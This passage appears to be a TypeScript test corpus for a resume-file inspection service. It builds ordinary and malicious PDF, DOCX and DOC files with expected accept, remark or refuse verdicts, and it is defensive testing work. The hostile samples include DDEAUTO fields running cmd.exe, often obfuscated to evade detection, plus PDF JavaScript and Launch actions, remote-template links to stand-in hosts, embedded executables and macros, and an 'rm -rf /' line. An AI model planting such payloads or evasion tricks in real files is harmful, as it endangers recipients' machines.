import { readFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import type { FileProblem } from "../server/resumes/checks/verdict.ts";
import { doc, docx, pdf, relationshipsXml, wordXml, type ZipEntry, zip } from "../tools/running/resume-files.ts";

/* Resume files, ordinary and malicious: which program made each, and what the inspection should say about it. */

export interface CorpusFile {
	file: string;
	maker: string;
	expected: "accepted" | `remark: ${"acts" | "doubtful" | "linked" | "embedded"}` | `refused: ${FileProblem}`;
	content: Buffer;
}

type Row = Omit<CorpusFile, "maker" | "content">;

/** Files in tests/corpus that other programs wrote. qpdf, MuPDF and Ghostscript converted PDFs of resume-files.ts. */
function storedFiles(maker: string, rows: [file: string, expected: CorpusFile["expected"]][]): CorpusFile[] {
	return rows.map(([file, expected]) => ({ file, maker, expected, content: readFileSync(`tests/corpus/${file}`) }));
}

const LAYOUTS = ["plain", "packed", "linear"]; // --object-streams=disable, --object-streams=generate, --linearize

function encryptedFiles(maker: string, names: string[], expected: CorpusFile["expected"]): CorpusFile[] {
	return storedFiles(
		maker,
		names.flatMap((name) => LAYOUTS.map((layout): [string, Row["expected"]] => [`${name}-${layout}.pdf`, expected])),
	);
}

const madeByPrograms: CorpusFile[] = [
	...storedFiles("LibreOffice 7.4, --convert-to docx, doc, pdf, rtf", [
		["libreoffice.docx", "accepted"],
		["libreoffice.doc", "accepted"],
		["libreoffice.pdf", "accepted"],
		["libreoffice-tagged.pdf", "accepted"],
		["libreoffice-a1.pdf", "accepted"],
		["libreoffice-a3.pdf", "accepted"],
		["libreoffice-hybrid.pdf", "remark: acts"],
		["libreoffice-rtf.doc", "refused: richText"],
	]),
	...storedFiles("Chromium 156, --print-to-pdf", [["chromium.pdf", "accepted"]]),
	...storedFiles("Ghostscript 10.0, pdfwrite", [["ghostscript.pdf", "accepted"]]),
	...storedFiles("MuPDF 1.21, mutool clean -gggz", [["mutool.pdf", "accepted"]]),
	...storedFiles("pandoc 2.17, from HTML", [["pandoc.docx", "accepted"]]),
	...storedFiles("python-docx 0.8", [["python-docx.docx", "accepted"]]),
	...storedFiles("LibreOffice's DOCX, packed anew by Python's zipfile", [
		["stored.docx", "accepted"],
		["streamed.docx", "accepted"],
		["zip64.docx", "accepted"],
	]),
	...storedFiles("qpdf 11.3", [
		["qpdf-2.0.pdf", "accepted"],
		["qpdf-linear.pdf", "accepted"],
		["qpdf-packed.pdf", "accepted"],
		["qpdf-script-packed.pdf", "remark: acts"],
		["qpdf-attachment.pdf", "remark: acts"],
		["qpdf-attached-docx.pdf", "remark: acts"],
	]),
	...encryptedFiles(
		'qpdf 11.3, --encrypt "" boss',
		["rc4-40", "rc4-128", "v4-rc4", "aes-128", "aes-256-r5", "aes-256"].map((name) => `qpdf-open-${name}`),
		"accepted",
	),
	...encryptedFiles(
		"qpdf 11.3, --encrypt secret boss",
		["rc4-40", "rc4-128", "aes-128", "aes-256"].map((name) => `qpdf-locked-${name}`),
		"refused: protected",
	),
	...encryptedFiles(
		'qpdf 11.3, --encrypt "" boss, of a PDF with a script',
		["rc4-128", "aes-128", "aes-256"].map((name) => `qpdf-script-${name}`),
		"remark: acts",
	),
];

function builtFiles(rows: [file: string, content: Buffer, expected: CorpusFile["expected"]][]): CorpusFile[] {
	return rows.map(([file, content, expected]) => ({ file, maker: "tools/running/resume-files.ts", expected, content }));
}

const EXE = Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0", "latin1"), Buffer.alloc(2000)]);
const JAR = zip([
	{ name: "META-INF/MANIFEST.MF", content: "Main-Class: A\n" },
	{ name: "A.class", content: Buffer.from("cafebabe00000034", "hex") },
]);
const HTML = "<html><script>new ActiveXObject('WScript.Shell')</script></html>";
const PACKAGE = "application/vnd.openxmlformats-officedocument.";

function append(content: Buffer, tail: string | Buffer): Buffer {
	return Buffer.concat([content, Buffer.from(tail)]);
}

function prepend(head: string, content: Buffer): Buffer {
	return Buffer.concat([Buffer.from(head), content]);
}

function withObject(object: string | Buffer): Buffer {
	return Buffer.concat([pdf(), Buffer.from("9 0 obj\n"), Buffer.from(object), Buffer.from("\nendobj\n%%EOF\n")]);
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";

/** An object stream, whose data and dictionary can be encoded in many ways. */
function objectStream(
	pack: (objects: Buffer) => Buffer,
	dictionary: string,
	{ type = "/ObjStm", stream = "stream\n", objects = `1 0 ${SCRIPT}`, first = 4, more = "" } = {},
): Buffer {
	const data = pack(Buffer.from(objects));
	const head = `<< /Type ${type} /N 1 /First ${first} ${dictionary} /Length ${data.length} >>\n${stream}`;
	return withObject(Buffer.concat([Buffer.from(head), data, Buffer.from(`\nendstream\nendobj\n${more}`)]));
}

const FLATE = "/Filter /FlateDecode";
const plain = (data: Buffer) => data;
const hex = (data: Buffer) => Buffer.from(`${data.toString("hex")}>`);

function ascii85(data: Buffer): Buffer {
	const filled = Buffer.concat([data, Buffer.alloc((4 - (data.length % 4)) % 4, " ")]);
	let text = "";
	for (let i = 0; i < filled.length; i += 4) {
		const value = filled.readUInt32BE(i);
		text += [4, 3, 2, 1, 0].map((power) => String.fromCharCode(33 + (Math.floor(value / 85 ** power) % 85))).join("");
	}
	return Buffer.from(`${text}~>`);
}

/** LZW with nine-bit codes for single characters, cleared before the codes would have to widen. */
function lzw(data: Buffer): Buffer {
	const codes = [...data].flatMap((byte, i) => (i % 200 === 0 ? [256, byte] : [byte]));
	const bits = [...codes, 257].map((code) => code.toString(2).padStart(9, "0")).join("");
	return Buffer.from((bits.match(/.{1,8}/g) ?? []).map((byte) => Number.parseInt(byte.padEnd(8, "0"), 2)));
}

const pdfs: CorpusFile[] = builtFiles([
	["plain.pdf", pdf(), "accepted"],
	["skills.pdf", pdf({ text: "HTML/CSS/JavaScript, product /Launch" }), "accepted"],
	[
		"font-named-alike.pdf",
		withObject("<< /BaseFont /JSans /Name /LaunchPad /Font << /JS 5 0 R /EF 5 0 R >> >>"),
		"accepted",
	],
	["web-link.pdf", withObject("<< /S /URI /URI (https://www.example.com/) >>"), "accepted"],
	["form.pdf", withObject("<< /AcroForm << /Fields [] >> /FT /Tx /T (name) >>"), "accepted"],
	["packed-fonts.pdf", objectStream(deflateSync, FLATE, { objects: "1 0 << /Type /Font >>" }), "accepted"],
	["zeros-after.pdf", append(pdf(), Buffer.alloc(100_000)), "accepted"],
	["spaces-after.pdf", append(pdf(), Buffer.alloc(100_000, " \r\n")), "accepted"],
	[
		"gateway-text-after.pdf",
		append(pdf(), `\n--\n${"This message was scanned by the mail gateway of Northwind.\n".repeat(200)}`),
		"accepted",
	],
	["bytes-after.pdf", append(pdf(), Buffer.alloc(1000, 7)), "accepted"],
	["byte-order-mark.pdf", prepend("\ufeff", pdf()), "accepted"],
	[
		"printed.pdf",
		prepend("\x1b%-12345X@PJL\r\n@PJL SET RESOLUTION=600\r\n@PJL ENTER LANGUAGE=PDF\r\n", pdf()),
		"accepted",
	],
	["saved-with-headers.pdf", prepend('Content-Type: application/pdf; name="cv.pdf"\r\n\r\n', pdf()), "accepted"],

	["script.pdf", withObject(SCRIPT), "remark: acts"],
	[
		"script-indirect.pdf",
		withObject("<< /S 10 0 R /JS 11 0 R >> endobj 10 0 obj /JavaScript endobj 11 0 obj (x)"),
		"remark: acts",
	],
	["script-in-numbers.pdf", withObject("<< /S /J#61v#61Script >>"), "remark: acts"],
	["script-packed.pdf", objectStream(deflateSync, FLATE), "remark: acts"],
	["script-not-packed.pdf", objectStream(plain, ""), "remark: acts"],
	["script-in-hex.pdf", objectStream(hex, "/Filter /ASCIIHexDecode"), "remark: acts"],
	["script-in-ascii85.pdf", objectStream(ascii85, "/Filter [/A85]"), "remark: acts"],
	["script-in-lzw.pdf", objectStream(lzw, "/Filter /LZWDecode"), "remark: acts"],
	[
		"script-in-run-lengths.pdf",
		objectStream((data) => Buffer.concat([Buffer.from([data.length - 1]), data]), "/Filter /RunLengthDecode"),
		"remark: acts",
	],
	[
		"script-packed-twice.pdf",
		objectStream((data) => hex(deflateSync(data)), "/Filter [/ASCIIHexDecode /FlateDecode]"),
		"remark: acts",
	],
	[
		"script-predicted.pdf",
		objectStream(
			(data) => deflateSync(Buffer.concat([Buffer.from([0]), data])),
			`${FLATE} /DecodeParms << /Predictor 12 /Columns 43 >>`,
		),
		"remark: acts",
	],
	["script-after-return.pdf", objectStream(deflateSync, FLATE, { stream: "stream\r" }), "remark: acts"],
	["script-type-in-numbers.pdf", objectStream(deflateSync, FLATE, { type: "/Obj#53tm" }), "remark: acts"],
	["script-type-left-out.pdf", objectStream(deflateSync, FLATE, { type: "/Other" }), "remark: acts"],
	[
		"script-filter-indirect.pdf",
		objectStream(deflateSync, "/Filter 12 0 R", { more: "12 0 obj /FlateDecode endobj\n" }),
		"remark: acts",
	],
	["script-in-a-string.pdf", objectStream(plain, "", { objects: `1 1 (${SCRIPT})`, first: 4 }), "remark: acts"],
	[
		"script-in-a-stream.pdf",
		withObject(`<< /Length 60 >>\nstream\n8 0 obj ${SCRIPT} endobj\nendstream`),
		"remark: acts",
	],
	["script-comment-in-number.pdf", append(pdf(), `8 %\n0 %\nobj\n${SCRIPT} endobj\n%%EOF`), "remark: acts"],
	["program-to-start.pdf", withObject("<< /S /Launch /F (cmd.exe) >>"), "remark: acts"],
	["film.pdf", withObject("<< /Subtype /RichMedia >>"), "remark: acts"],
	["import.pdf", withObject("<< /S /ImportData /F (a.fdf) >>"), "remark: acts"],
	["form-that-sends.pdf", withObject("<< /S /SubmitForm /F (https://www.example.com/) >>"), "remark: acts"],
	["xfa.pdf", withObject("<< /AcroForm << /XFA [(a) 5 0 R] >> >>"), "remark: acts"],
	["other-file.pdf", withObject("<< /S /GoToR /F (\\\\\\\\server\\\\a.pdf) >>"), "remark: acts"],
	["file-in-attachment.pdf", withObject("<< /S /GoToE /F (a.pdf) >>"), "remark: acts"],
	["attachment.pdf", withObject("<< /F (a.exe) /EF << /F 5 0 R >> >>"), "remark: acts"],
	["group-broken.pdf", objectStream(plain, FLATE), "remark: doubtful"],
	["group-packed-unknown.pdf", objectStream(plain, "/Filter /JBIG2Decode"), "remark: doubtful"],
	["group-first-twice.pdf", objectStream(plain, "/First 9", { objects: "1 0 << >>" }), "remark: doubtful"],
	["too-deep.pdf", withObject("[".repeat(100_000)), "remark: doubtful"],

	["nothing-in-it.pdf", Buffer.from("%PDF-%%EOF"), "refused: damaged"],
	[
		"no-pages.pdf",
		Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"),
		"refused: damaged",
	],
	["cut-off.pdf", pdf({ size: 20_000 }).subarray(0, 9000), "refused: damaged"],
	["cut-off-later.pdf", append(pdf(), "9 0 obj << /Type /Font >> endobj 10 0 obj << /Ty"), "refused: damaged"],
	["zip-after.pdf", append(pdf(), zip([{ name: "a.txt", content: "a" }])), "refused: wrongType"],
	["jar-after.pdf", append(pdf(), JAR), "refused: wrongType"],
	["jar-and-zeros-after.pdf", Buffer.concat([pdf(), JAR, Buffer.alloc(5000)]), "refused: wrongType"],
	[
		"jar-in-stream.pdf",
		withObject(Buffer.concat([Buffer.from("<< >>\nstream\n"), JAR, Buffer.from("\nendstream")])),
		"refused: wrongType",
	],
	["jar-in-comment.pdf", Buffer.concat([pdf(), Buffer.from("%"), JAR, pdf()]), "refused: wrongType"],
	["program-after.pdf", append(pdf(), EXE), "refused: wrongType"],
	["script-after.pdf", append(pdf(), `\n${HTML}`), "refused: wrongType"],
	["batch-before.pdf", prepend("@echo off\r\nstart calc.exe\r\n", pdf()), "refused: wrongType"],
	["command-before.pdf", prepend("calc.exe & rem ", pdf()), "refused: wrongType"],
	["powershell-before.pdf", prepend("Start-Process calc\r\n<#\r\n", pdf()), "refused: wrongType"],
	["headers-that-run.pdf", prepend("Content-Type: a; calc.exe\r\n", pdf()), "refused: wrongType"],
	["shell-before.pdf", prepend("#!/bin/sh\nrm -rf /\n", pdf()), "refused: wrongType"],
	["page-before.pdf", prepend(HTML, pdf()), "refused: wrongType"],
	["program-before.pdf", Buffer.concat([EXE.subarray(0, 200), pdf()]), "refused: wrongType"],
]);

/** A DOCX whose document refers to another part. */
function docxReferringTo(type: string, target: string, external = true): Buffer {
	return docx({ refers: [{ type, target, external }] });
}

function withPart(
	type: string,
	name: string,
	content: string | Buffer,
	contentType = "application/octet-stream",
): Buffer {
	return docx({
		refers: [{ type, target: name }],
		beside: [{ name: `word/${name}`, content }],
		types: { [`word/${name}`]: contentType },
	});
}

function settings(target: string): Buffer {
	return docx({
		refers: [{ type: "settings", target: "settings.xml" }],
		beside: [
			{ name: "word/settings.xml", content: "<w:settings/>" },
			{
				name: "word/_rels/settings.xml.rels",
				content: relationshipsXml([{ type: "attachedTemplate", target, external: true }]),
			},
		],
		types: { "word/settings.xml": `${PACKAGE}wordprocessingml.settings+xml` },
	});
}

const BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
const SEPARATE = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>';
const END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;

function withField(...codes: string[]): Buffer {
	return docx({ text: wordXml(`${BEGIN}${codes.map(code).join("")}${SEPARATE}<w:r><w:t>1</w:t></w:r>${END}`) });
}

const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"';
const SHEET = zip([
	{ name: "[Content_Types].xml", content: "<Types/>" },
	{ name: "xl/workbook.xml", content: "<workbook/>" },
]);
const SHEET_TYPE = `${PACKAGE}spreadsheetml.sheet`;

function zipWithTwo(name: string): Buffer {
	const parts: ZipEntry[] = [
		{ name: "[Content_Types].xml", content: typesOf("word/document.xml") },
		{ name: "_rels/.rels", content: relationshipsXml([{ type: "officeDocument", target: "word/document.xml" }]) },
		{ name: "word/document.xml", content: wordXml("") },
	];
	return zip([...parts, { name, content: parts[0]?.content ?? "" }]);
}

function typesOf(...mains: string[]): string {
	const each = mains.map(
		(name) => `<Override PartName="/${name}" ContentType="${PACKAGE}wordprocessingml.document.main+xml"/>`,
	);
	return `<Types><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>${each.join("")}</Types>`;
}

/** A zip has each name before the file and in the central directory; here they differ. */
function withOtherLocalName(content: Buffer): Buffer {
	content.write("word/documenX.xml", content.lastIndexOf("word/document.xml"));
	return content;
}

const ole = (name: string) => doc({ main: null, object: [{ name, content: EXE }] });

const docxs: CorpusFile[] = builtFiles([
	["plain.docx", docx(), "accepted"],
	[
		"links.docx",
		docx({
			refers: ["https://www.example.com", "mailto:a@example.com", "www.example.com", "#a"].map((target) => ({
				type: "hyperlink",
				target,
				external: true,
			})),
		}),
		"accepted",
	],
	[
		"template-on-own-disk.docx",
		settings("file:///C:\\Users\\jordan\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx"),
		"accepted",
	],
	["template-by-name.docx", settings("Resume.dotx"), "accepted"],
	["placeholder.docx", withField("MACROBUTTON NoMacro [Click here and type your name]"), "accepted"],
	["page-number.docx", withField(" PA", "GE ", "\\* MERGEFORMAT"), "accepted"],
	["hidden-in-a-link.docx", withField('HYPERLINK "https://www.example.com/dde"'), "accepted"],
	[
		"mail-merge.docx",
		docx({ text: wordXml(`${BEGIN}${code("IF ")}${BEGIN}${code("MERGEFIELD a")}${END}${code(' = "" "a"')}${END}`) }),
		"accepted",
	],
	[
		"chart.docx",
		docx({
			refers: [{ type: "chart", target: "charts/chart1.xml" }],
			beside: [
				{ name: "word/charts/chart1.xml", content: "<c:chart/>" },
				{
					name: "word/charts/_rels/chart1.xml.rels",
					content: relationshipsXml([{ type: "package", target: "../embeddings/sheet.xlsx" }]),
				},
				{ name: "word/embeddings/sheet.xlsx", content: SHEET },
			],
			types: { "word/charts/chart1.xml": `${PACKAGE}drawingml.chart+xml`, "word/embeddings/sheet.xlsx": SHEET_TYPE },
		}),
		"accepted",
	],
	[
		"drawing-with-document-type.docx",
		withPart("image", "media/a.svg", "<!DOCTYPE svg><svg/>", "image/svg+xml"),
		"accepted",
	],
	["font.docx", withPart("font", "fonts/a.odttf", EXE, `${PACKAGE}obfuscatedFont`), "accepted"],
	["picture-on-own-disk.docx", docxReferringTo("image", "file:///C:\\Users\\jordan\\a.png"), "accepted"],
	[
		"utf-16.docx",
		docx({ text: Buffer.from(`\ufeff${wordXml("").replace("UTF-8", "UTF-16")}`, "utf16le") }),
		"accepted",
	],
	["word-on-the-web.docx", docx({ main: "word/document2.xml" }), "accepted"],
	["unusual-main-part.docx", docx({ main: "content/resume.xml" }), "accepted"],
	[
		"all-xml-is-the-document.docx",
		zip([
			{
				name: "[Content_Types].xml",
				content: `<Types><Default Extension="xml" ContentType="${PACKAGE}wordprocessingml.document.main+xml"/></Types>`,
			},
			{ name: "_rels/.rels", content: relationshipsXml([{ type: "officeDocument", target: "word/document.xml" }]) },
			{ name: "word/document.xml", content: wordXml("") },
			{ name: "docProps/app.xml", content: "<Properties/>" },
		]),
		"accepted",
	],
	["zeros-after.docx", append(docx(), Buffer.alloc(5000)), "accepted"],
	["text-after.docx", append(docx(), "\r\n--\r\nScanned by the mail gateway of Northwind.\r\n"), "accepted"],

	["picture-on-the-web.docx", docxReferringTo("image", "https://www.example.com/a.png"), "remark: linked"],
	[
		"pasted-from-the-web.docx",
		withField('INCLUDEPICTURE "https://www.example.com/a.png" \\* MERGEFORMATINET'),
		"remark: linked",
	],
	["link-to-network.docx", docxReferringTo("hyperlink", "\\\\server\\share\\a.docx"), "remark: linked"],
	["link-to-program.docx", docxReferringTo("hyperlink", "ms-msdt:/id"), "remark: linked"],
	[
		"add-in.docx",
		withPart(
			"http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
			"taskpanes.xml",
			"<a/>",
			"application/xml",
		),
		"remark: linked",
	],
	["film.docx", withPart("video", "media/a.mp4", "....ftyp", "video/mp4"), "remark: embedded"],
	["sheet.docx", withPart("package", "embeddings/a.xlsx", SHEET, SHEET_TYPE), "remark: embedded"],
	["old-sheet.docx", withPart("oleObject", "embeddings/a.xls", doc({ main: "Workbook" })), "remark: embedded"],

	["template-on-the-web.docx", settings("http://www.example.com/a.dotm"), "refused: active"],
	["template-on-network.docx", settings("\\\\server\\share\\a.dotm"), "refused: active"],
	["template-on-network-file.docx", settings("file://server/share/a.dotm"), "refused: active"],
	["template-on-network-escaped.docx", settings("file:%5C%5Cserver%5Ca.dotm"), "refused: active"],
	[
		"template-not-called-external.docx",
		docx({ refers: [{ type: "attachedTemplate", target: "http&#58;//www.example.com/a.dotm" }] }),
		"refused: active",
	],
	[
		"object-elsewhere.docx",
		docxReferringTo("oleObject", "http://www.example.com/a.html!x-usc:http://www.example.com"),
		"refused: active",
	],
	["frame-elsewhere.docx", docxReferringTo("frame", "http://www.example.com/"), "refused: active"],
	["part-elsewhere.docx", docxReferringTo("subDocument", "file:///C:/a.docx"), "refused: active"],
	["picture-on-network.docx", docxReferringTo("image", "file://server/share/a.png"), "refused: active"],
	["picture-on-network-unc.docx", docxReferringTo("image", "\\\\server\\share\\a.png"), "refused: active"],
	[
		"object-package.docx",
		withPart("oleObject", "embeddings/oleObject1.bin", ole("\x01Ole10Native")),
		"refused: active",
	],
	["object-of-no-document.docx", withPart("oleObject", "embeddings/a.bin", doc({ main: null })), "refused: active"],
	[
		"old-sheet-with-object.docx",
		withPart("oleObject", "embeddings/a.xls", doc({ main: "Workbook", object: [{ name: "a", content: "x" }] })),
		"refused: active",
	],
	["object-program.docx", withPart("oleObject", "embeddings/oleObject1.bin", EXE), "refused: active"],
	["program-as-picture.docx", withPart("image", "media/image1.png", EXE, "image/png"), "refused: active"],
	["program-nobody-refers-to.docx", docx({ beside: [{ name: "word/media/a.dat", content: EXE }] }), "refused: active"],
	["program-by-name.docx", docx({ beside: [{ name: "word/media/a.vbs", content: "x" }] }), "refused: active"],
	["page-inside.docx", withPart("aFChunk", "a.html", HTML, "text/html"), "refused: active"],
	["page-inside-other-name.docx", withPart("aFChunk", "a.dat", HTML, "text/html"), "refused: active"],
	["rich-text-inside.docx", withPart("aFChunk", "a.dat", "{\\rtf1 {\\object}}", "application/rtf"), "refused: active"],
	[
		"control.docx",
		withPart("control", "activeX/activeX1.xml", "<ax:ocx/>", "application/vnd.ms-office.activeX+xml"),
		"refused: active",
	],
	["dde.docx", withField(DDE), "refused: active"],
	["dde-in-pieces.docx", withField("DD", "EAU", 'TO c:\\\\cmd.exe "/k calc"'), "refused: active"],
	["dde-behind-spaces.docx", withField(`${" ".repeat(20_000)}${DDE}`), "refused: active"],
	["dde-behind-pieces-of-space.docx", withField(...Array(10_001).fill(" "), DDE), "refused: active"],
	["dde-behind-quotes.docx", withField('"'.repeat(20_000), DDE), "refused: active"],
	[
		"text-from-the-web-behind-spaces.docx",
		withField(`INCLUDETEXT${" ".repeat(20_000)}"http://www.example.com/a.docx"`),
		"refused: active",
	],
	["dde-small-letters.docx", withField(' dde "excel" "a"'), "refused: active"],
	[
		"dde-simple.docx",
		docx({ text: wordXml(`<w:fldSimple w:instr="${DDE.replaceAll('"', "&quot;")}"/>`) }),
		"refused: active",
	],
	["dde-in-numbers.docx", docx({ text: wordXml(`<w:fldSimple w:instr="&#68;DE excel"/>`) }), "refused: active"],
	[
		"dde-by-another-field.docx",
		docx({
			text: wordXml(`${BEGIN}${BEGIN}${code("QUOTE 68 68 69 65 85 84 79")}${END}${code(" c:\\\\cmd.exe")}${END}`),
		}),
		"refused: active",
	],
	[
		"dde-by-another-field-in-quotes.docx",
		docx({
			text: wordXml(`${BEGIN}${code(' "')}${BEGIN}${code("QUOTE 68 68 69")}${END}${code('" c:\\\\cmd.exe')}${END}`),
		}),
		"refused: active",
	],
	["dde-never-ended.docx", docx({ text: wordXml(`${BEGIN}${code(DDE)}`) }), "refused: active"],
	[
		"dde-in-header.docx",
		withPart("header", "header1.xml", wordXml(`${BEGIN}${code(DDE)}${END}`), `${PACKAGE}wordprocessingml.header+xml`),
		"refused: active",
	],
	[
		"dde-other-prefix.docx",
		docx({
			text: '<x:document xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main"><x:fldSimple x:instr="DDE a"/></x:document>',
		}),
		"refused: active",
	],
	["text-elsewhere.docx", withField('INCLUDETEXT "http://www.example.com/a.docx"'), "refused: active"],
	["picture-field-on-network.docx", withField('INCLUDEPICTURE "\\\\\\\\server\\\\a.png"'), "refused: active"],
	["macros.docx", docx({ beside: [{ name: "word/vbaProject.bin", content: "x" }] }), "refused: macros"],
	[
		"macros-renamed.docx",
		withPart("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin", "x"),
		"refused: macros",
	],
	[
		"macros-by-type.docx",
		docx({
			beside: [{ name: "word/a.bin", content: "x" }],
			types: { "word/a.bin": "application/vnd.ms-office.vbaProject" },
		}),
		"refused: macros",
	],
	[
		"macros-in-object.docx",
		withPart("oleObject", "a.bin", doc({ main: "Workbook", beside: ["_VBA_PROJECT_CUR"] })),
		"refused: macros",
	],
	[
		"macro-enabled-in-numbers.docx",
		docx({ type: "application/vnd.ms-word.document.&#109;acroEnabled.main+xml" }),
		"refused: macros",
	],
	["jar-inside.docx", docx({ beside: [{ name: "word/a.bin", content: JAR }] }), "refused: active"],
	["jar-as-package.docx", withPart("package", "embeddings/a.xlsx", JAR), "refused: active"],
	[
		"macros-in-package.docx",
		withPart(
			"package",
			"embeddings/a.xlsm",
			zip([
				{ name: "[Content_Types].xml", content: "<Types/>" },
				{ name: "xl/vbaProject.bin", content: "x" },
			]),
		),
		"refused: macros",
	],
	["types-twice.docx", zipWithTwo("[Content_Types].xml"), "refused: damaged"],
	["types-twice-other-case.docx", zipWithTwo("[CONTENT_TYPES].xml"), "refused: damaged"],
	[
		"document-twice-other-case.docx",
		docx({ beside: [{ name: "word/Document.xml", content: wordXml("") }] }),
		"refused: damaged",
	],
	[
		"decoy.docx",
		zip([
			{ name: "[Content_Types].xml", content: typesOf("word/document.xml", "word/real.xml") },
			{ name: "_rels/.rels", content: relationshipsXml([{ type: "officeDocument", target: "word/real.xml" }]) },
			{ name: "word/document.xml", content: wordXml("") },
			{ name: "word/real.xml", content: wordXml("") },
		]),
		"refused: damaged",
	],
	[
		"decoy-with-dde.docx",
		zip([
			{ name: "[Content_Types].xml", content: typesOf("word/real.xml") },
			{ name: "_rels/.rels", content: relationshipsXml([{ type: "officeDocument", target: "word/real.xml" }]) },
			{ name: "word/document.xml", content: wordXml("") },
			{ name: "word/real.xml", content: wordXml(`${BEGIN}${code(DDE)}${END}`) },
		]),
		"refused: active",
	],
	[
		"two-documents.docx",
		zip([
			{ name: "[Content_Types].xml", content: typesOf("word/document.xml") },
			{
				name: "_rels/.rels",
				content: relationshipsXml([
					{ type: "officeDocument", target: "word/document.xml" },
					{ type: "officeDocument", target: "other.xml" },
				]),
			},
			{ name: "word/document.xml", content: wordXml("") },
		]),
		"refused: damaged",
	],
	["two-names-for-one-part.docx", withOtherLocalName(docx()), "refused: damaged"],
	["program-after.docx", append(docx(), EXE), "refused: wrongType"],
	["script-after.docx", append(docx(), `\n${HTML}`), "refused: wrongType"],
	["unknown-encoding.docx", docx({ text: '<?xml version="1.0" encoding="UTF-7"?><a/>' }), "refused: damaged"],
	["deep.docx", docx({ text: "<a>".repeat(100_000) }), "refused: tooComplicated"],
]);

const text = 'Jordan Reyes \x13 DDEAUTO c:\\\\cmd.exe "/k calc" \x14\x15';

/** A piece table for text at byte 512 that is read in another order than it is stored: second half first. */
function pieceTable(first: string, second: string): Buffer {
	const table = Buffer.alloc(5 + 12 + 16);
	table.writeUInt8(2, 0);
	table.writeUInt32LE(28, 1);
	table.writeUInt32LE(second.length, 9);
	table.writeUInt32LE(second.length + first.length, 13);
	const inBytes = (at: number) => (at * 2) | 0x40000000;
	table.writeUInt32LE(inBytes(512 + first.length), 19);
	table.writeUInt32LE(inBytes(512), 27);
	return table;
}

/** A document's associated strings, the second of which is its template. */
function associatedStrings(template: string): Buffer {
	const head = Buffer.alloc(10);
	head.writeUInt16LE(0xffff, 0);
	head.writeUInt16LE(2, 2);
	head.writeUInt16LE(template.length, 8);
	return Buffer.concat([head, Buffer.from(template, "utf16le")]);
}

const docs: CorpusFile[] = builtFiles([
	["plain.doc", doc(), "accepted"],
	["short-text.doc", doc({ size: 1000 }), "accepted"],
	["no-objects.doc", doc({ beside: ["1Table", "ObjectPool", "Data"] }), "accepted"],
	["page-number.doc", doc({ text: "\x13 PAGE \x141\x15 Built hidden DDE tools" }), "accepted"],
	["template-on-own-disk.doc", doc({ tables: { names: associatedStrings("C:\\Templates\\Resume.dot") } }), "accepted"],
	["zeros-after.doc", append(doc(), Buffer.alloc(5000)), "accepted"],
	["sheet.doc", doc({ object: [{ name: "Workbook", content: "x" }] }), "remark: embedded"],
	["new-sheet.doc", doc({ object: [{ name: "Package", content: SHEET }] }), "remark: embedded"],
	[
		"pasted-from-the-web.doc",
		doc({ text: '\x13 INCLUDEPICTURE "https://www.example.com/a.png" \x14\x15' }),
		"remark: linked",
	],
	["package.doc", doc({ object: [{ name: "\x01Ole10Native", content: EXE }] }), "refused: active"],
	["program.doc", doc({ object: [{ name: "CONTENTS", content: EXE }] }), "refused: active"],
	["dde.doc", doc({ text }), "refused: active"],
	[
		"dde-behind-spaces.doc",
		doc({ size: 50_000, text: `\x13${" ".repeat(20_000)}DDEAUTO c:\\\\cmd.exe\x15` }),
		"refused: active",
	],
	["dde-two-bytes.doc", doc({ text: Buffer.from(text, "utf16le").toString("latin1") }), "refused: active"],
	[
		"dde-in-pieces.doc",
		doc({
			text: `EAUTO c:\\\\cmd.exe\x15Jordan Reyes \x13 DD`,
			tables: { pieces: pieceTable("EAUTO c:\\\\cmd.exe\x15", "Jordan Reyes \x13 DD") },
		}),
		"refused: active",
	],
	["dde-by-another-field.doc", doc({ text: "\x13\x13 QUOTE 68 68 69 \x15 c:\\\\cmd.exe\x15" }), "refused: active"],
	[
		"template-on-the-web.doc",
		doc({ tables: { names: associatedStrings("http://www.example.com/a.dot") } }),
		"refused: active",
	],
	["template-on-network.doc", doc({ tables: { names: associatedStrings("\\\\server\\a.dot") } }), "refused: active"],
	["macros.doc", doc({ beside: ["Macros"] }), "refused: macros"],
	["program-after.doc", append(doc(), EXE), "refused: wrongType"],
	["program-after-zeros.doc", Buffer.concat([doc(), Buffer.alloc(700), EXE]), "refused: wrongType"],
	["zip-after.doc", append(doc(), JAR), "refused: wrongType"],
	["script-after.doc", append(doc(), HTML), "refused: wrongType"],
	["rich-text.doc", Buffer.from("{\\rtf1\\ansi Jordan Reyes}"), "refused: richText"],
	["rich-text-short.doc", Buffer.from("{\\rt\\ansi Jordan Reyes}"), "refused: richText"],
]);

const MB = 1024 * 1024;
const repeated = (words: string) =>
	Buffer.concat([pdf(), Buffer.alloc(10 * MB - 1000, words), Buffer.from("\n%%EOF\n")]);
const manyGroups = () => {
	const data = deflateSync(Buffer.alloc(4 * MB - 16, "#41"));
	const head = `<< /Type /ObjStm /N 1 /First 4 ${FLATE} /Length ${data.length} >>\nstream\n`;
	const group = [Buffer.from(`9 0 obj\n${head}`), data, Buffer.from("\nendstream\nendobj\n")];
	return Buffer.concat([pdf(), ...Array.from({ length: 63 }, () => group).flat(), Buffer.from("%%EOF\n")]);
};

const numbered = (count: number, each: (i: number) => string) =>
	Array.from({ length: count }, (_, i) => each(i)).join(" ");

/** Files made to cost time or memory. */
export const costly: () => CorpusFile[] = () =>
	builtFiles([
		["many-large-groups.pdf", manyGroups(), "refused: tooComplicated"],
		["groups-named.pdf", repeated("/ObjStm "), "accepted"],
		["encryption-named.pdf", repeated("/Encrypt "), "accepted"],
